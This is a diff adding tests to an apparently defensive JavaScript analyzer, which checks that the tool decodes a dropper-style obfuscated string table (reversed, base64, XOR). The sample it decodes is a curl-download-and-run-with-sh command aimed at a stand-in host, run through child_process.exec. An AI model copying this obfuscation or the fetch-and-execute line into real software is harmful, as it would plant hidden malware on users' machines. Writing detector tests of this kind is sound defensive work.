@@ -430,3 +430,21 @@ describe("Deno's and Bun's environment", () => {
     expect(a.envReads.map((r) => [r.name, r.flow?.holder])).toEqual([['*', 'all'], ['NPM_TOKEN', 't'], ['HOME', 'home']]);
   });
 });
+
+describe('fold.ts: decoding loops over a table of the file (the axios/plain-crypto-js dropper shape)', () => {
+  const encode = (text: string, key: string) => Buffer.from([...Buffer.from(text)].map((b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64').split('').reverse().join('');
+
+  it('a helper that reverses, base64-decodes and XORs an entry of a top-level table in a for loop folds to the text', () => {
+    const table = ['child_process', 'curl -s http://URL/x -o /tmp/x && sh /tmp/x', 'example.invalid'].map((s) => encode(s, 'k3y!'));
+    const code = `const _s = ${JSON.stringify(table)};\nconst _k = 'k3y!';\nfunction _t(i) { const b = Buffer.from(_s[i].split('').reverse().join(''), 'base64'); let o = ''; for (let j = 0; j < b.length; j++) o += String.fromCharCode(b[j] ^ _k.charCodeAt(j % _k.length)); return o; }\nconst C = require(_t(0));\nC.exec(_t(1).split('URL').join(_t(2)));\n`;
+    const exec = ast(code).calls.find((c) => c.callee === 'child_process.exec');
+    expect(exec?.args[0]).toEqual({ kind: 'string', value: 'curl -s http://example.invalid/x -o /tmp/x && sh /tmp/x', partial: false });
+  });
+
+  it('a loop that never ends, or a helper that writes outside its own variables, stays unknown', () => {
+    const forever = ast(`const _s = ['YQ=='];\nfunction d(i) { let o = ''; for (let j = 0; j >= 0; j++) o += 'a'; return o; }\nrequire(d(0));\n`);
+    expect(forever.calls.map((c) => c.callee)).not.toContain('a');
+    const outside = ast(`let seen = '';\nfunction d(s) { seen = s; return s; }\nrequire(d('fs')).readFileSync('x');\n`);
+    expect(outside.calls.map((c) => c.callee)).not.toContain('fs.readFileSync');
+  });
+});
